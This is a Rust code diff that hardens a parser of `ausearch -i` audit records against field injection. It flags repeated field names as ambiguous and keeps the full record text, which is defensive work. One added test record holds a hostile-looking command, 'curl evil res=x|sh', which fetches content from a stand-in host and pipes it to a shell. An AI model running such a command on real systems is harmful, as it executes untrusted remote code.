@@ -1,13 +1,16 @@
 //! Records as `ausearch -i` writes them: names for numbers, a time of the machine that ran it in its locale's form, and
 //! texts without quotes. Whoever chooses a text can write what looks like further fields into it: what the kernel
-//! writes before all texts is certain, and of other names that stand twice none is taken.
+//! writes before all texts is certain, and of other names that stand twice none is taken. Nothing vanishes by that: the
+//! whole text is kept beside, and what tells of a file or a command reaches to the end then.
 
+use super::arguments;
 use super::record::{Head, Part};
 use crate::time::{self, Clock};
 use crate::{Context, RejectReason};
 use ambit_event::printable;
 use jiff::tz::TimeZone;
 use std::borrow::Cow;
+use std::collections::HashSet;
 
 /// Which of two numbers between slashes is the month.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -50,8 +53,8 @@ impl Dates {
         let Some([a, b, c]) = numbers.as_deref().and_then(|n| <[u32; 3]>::try_from(n).ok()) else {
             return Err(wrong("is no date in numbers: run ausearch without -i"));
         };
-        let (year, month, day) = match date.as_bytes().get(4) {
-            Some(b'-' | b'/' | b'.') => (a, b, c),
+        let (year, month, day) = match date.find(['/', '.', '-']) {
+            Some(4) => (a, b, c),
             _ => {
                 let order = self.order(date, a, b).ok_or_else(|| {
                     wrong(
@@ -138,6 +141,13 @@ const CERTAIN: &[&str] = &[
     "fsuid", "egid", "sgid", "fsgid", "tty", "ses", "old-auid", "old-ses", "op", "item", "argc",
 ];
 
+/// Names of texts that tell what was touched or run. Where a record is ambiguous they reach to its end: what an intruder
+/// writes into them shortens none.
+const TELLING: &[&str] = &["name", "cmd", "data", "path"];
+
+/// Ambiguous names that are told at most.
+const MOST_TOLD: usize = 16;
+
 /// Reads what a record says.
 pub fn part<'a>(kind: &'a str, body: &'a str) -> Part<'a> {
     let mut part = Part {
@@ -157,6 +167,9 @@ pub fn part<'a>(kind: &'a str, body: &'a str) -> Part<'a> {
         part.fields.push((Cow::Borrowed(name), Cow::Borrowed(text)));
         return part;
     }
+    if kind == "EXECVE" && arguments::read(&mut part, body) {
+        return part;
+    }
     let mut found = Vec::new();
     match body.split_once("msg='") {
         Some((before, inner)) => {
@@ -169,14 +182,32 @@ pub fn part<'a>(kind: &'a str, body: &'a str) -> Part<'a> {
         }
         None => split(body, &mut found, &mut part.words),
     }
-    settle(&mut part, found);
+    settle(&mut part, &found, body);
     part
 }
 
-type Found<'a> = Vec<(&'a str, &'a str)>;
+/// A name, and what may be its value.
+struct Found<'a> {
+    name: &'a str,
+    /// Up to the next name.
+    value: &'a str,
+    /// To the end.
+    rest: &'a str,
+}
+
+impl<'a> Found<'a> {
+    fn of(name: &'a str, text: &'a str, since: usize, until: usize) -> Self {
+        let of = |text: Option<&'a str>| text.unwrap_or_default().trim();
+        Self {
+            name,
+            value: of(text.get(since..until)),
+            rest: of(text.get(since..)),
+        }
+    }
+}
 
 /// Names with all that stands up to the next one.
-fn split<'a>(text: &'a str, found: &mut Found<'a>, words: &mut Vec<&'a str>) {
+fn split<'a>(text: &'a str, found: &mut Vec<Found<'a>>, words: &mut Vec<&'a str>) {
     let mut open: Option<(&str, usize)> = None;
     let mut at = 0;
     for word in text.split(' ') {
@@ -186,7 +217,7 @@ fn split<'a>(text: &'a str, found: &mut Found<'a>, words: &mut Vec<&'a str>) {
             .filter(|name| is_name(name));
         if let Some(name) = name {
             if let Some((before, since)) = open {
-                found.push((before, text[since..at].trim()));
+                found.push(Found::of(before, text, since, at));
             }
             open = Some((name, at + name.len() + 1));
         } else if open.is_none() && !word.is_empty() {
@@ -195,7 +226,7 @@ fn split<'a>(text: &'a str, found: &mut Found<'a>, words: &mut Vec<&'a str>) {
         at += word.len() + 1;
     }
     if let Some((name, since)) = open {
-        found.push((name, text[since..].trim()));
+        found.push(Found::of(name, text, since, text.len()));
     }
 }
 
@@ -206,33 +237,41 @@ fn is_name(name: &str) -> bool {
             .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
 }
 
-fn settle<'a>(part: &mut Part<'a>, found: Found<'a>) {
-    let mut ambiguous: Vec<&str> = Vec::new();
-    let mut names = std::collections::HashSet::new();
-    for (name, value) in found {
-        if !names.insert(name) {
-            if !ambiguous.contains(&name) && ambiguous.len() < 16 {
-                ambiguous.push(name);
-            }
-            if !CERTAIN.contains(&name) {
-                part.fields.retain(|(before, _)| before != name);
-            }
+fn settle<'a>(part: &mut Part<'a>, found: &[Found<'a>], body: &'a str) {
+    let (mut names, mut repeated, mut told) = (HashSet::new(), HashSet::new(), Vec::new());
+    for Found { name, .. } in found {
+        if !names.insert(*name) && repeated.insert(*name) && told.len() < MOST_TOLD {
+            told.push(*name);
+        }
+    }
+    for Found { name, value, rest } in found {
+        if !names.remove(name) {
             continue;
         }
-        match (&*part.kind, name) {
+        let value = match TELLING.contains(name) && !repeated.is_empty() {
+            true => *rest,
+            false if repeated.contains(name) && !CERTAIN.contains(name) => continue,
+            false => *value,
+        };
+        match (&*part.kind, *name) {
             ("SOCKADDR", "saddr") => socket(part, value),
-            ("SOCKADDR", _) => add(part, name, value.strip_suffix('}').unwrap_or(value).trim()),
+            ("SOCKADDR", name) => add(part, name, value.strip_suffix('}').unwrap_or(value).trim()),
             (_, "exit") => add(part, name, value.split('(').next().unwrap_or(value)),
             _ => add(part, name, numbered(value)),
         }
     }
-    if !ambiguous.is_empty() {
-        let ambiguous = Cow::Owned(ambiguous.join(","));
-        part.fields.push((Cow::Borrowed("ambiguous"), ambiguous));
+    if !told.is_empty() {
+        ambiguous(part, told.join(","), body);
     }
 }
 
-fn add<'a>(part: &mut Part<'a>, name: &'a str, value: &'a str) {
+/// The record can be read in several ways: which names it is about, and its whole text.
+pub fn ambiguous<'a>(part: &mut Part<'a>, names: String, body: &'a str) {
+    part.fields.push((Cow::Borrowed("ambiguous"), Cow::Owned(names)));
+    part.unsure = Some(body);
+}
+
+pub fn add<'a>(part: &mut Part<'a>, name: &'a str, value: &'a str) {
     part.fields.push((Cow::Borrowed(name), Cow::Borrowed(value)));
 }
 
@@ -297,6 +336,9 @@ mod tests {
                 "12/11/2026 11:33:43.123",
                 Some("1794483223.123"),
             ),
+            (None, "12/1/26 11:33:43.123", None),
+            (Some("%m/%d/%y"), "12/1/26 11:33:43.123", Some("1796124823.123")),
+            (None, "12.1.2026 11:33:43.123", Some("1768217623.123")),
             (None, "23 Nov 2026 11:33:43.123", None),
             (None, "13/13/2026 11:33:43.123", None),
         ] {
@@ -335,6 +377,16 @@ mod tests {
                 "pid=1;uid=root;auid=unset;ses=unset;op=login;acct=x;exe=/usr/sbin/sshd;hostname=?;res=failed;ambiguous=addr",
             ),
             (
+                "PATH",
+                "item=0 name=/tmp/a path name=b inode=7 nametype=NORMAL",
+                "item=0;name=/tmp/a path name=b inode=7 nametype=NORMAL;inode=7;nametype=NORMAL;ambiguous=name",
+            ),
+            (
+                "USER_CMD",
+                "pid=1 uid=root auid=eve ses=3 msg='cwd=/ cmd=curl evil res=x|sh terminal=pts/0 res=success'",
+                "pid=1;uid=root;auid=eve;ses=3;cwd=/;cmd=curl evil res=x|sh terminal=pts/0 res=success;terminal=pts/0;ambiguous=res",
+            ),
+            (
                 "SOCKADDR",
                 "saddr={ saddr_fam=inet laddr=203.0.113.7 lport=443 }",
                 "saddr_fam=inet;laddr=203.0.113.7;lport=443",
@@ -347,5 +399,16 @@ mod tests {
         ] {
             assert_eq!(shown(kind, body), expected, "{body}");
         }
+    }
+
+    #[test]
+    fn what_is_ambiguous_is_kept_whole() {
+        let body = "auid=mallory comm=x exe=/bin/sh exe=/tmp/x";
+        assert_eq!(part("SYSCALL", body).unsure, Some(body));
+        assert_eq!(part("SYSCALL", "auid=mallory comm=x").unsure, None);
+        let names: String = (0..100_000).map(|n| format!("n{n}=a n{n}=b ")).collect();
+        let part = part("SYSCALL", &names);
+        let told = part.get("ambiguous").unwrap();
+        assert_eq!((part.fields.len(), told.split(',').count()), (1, MOST_TOLD));
     }
 }
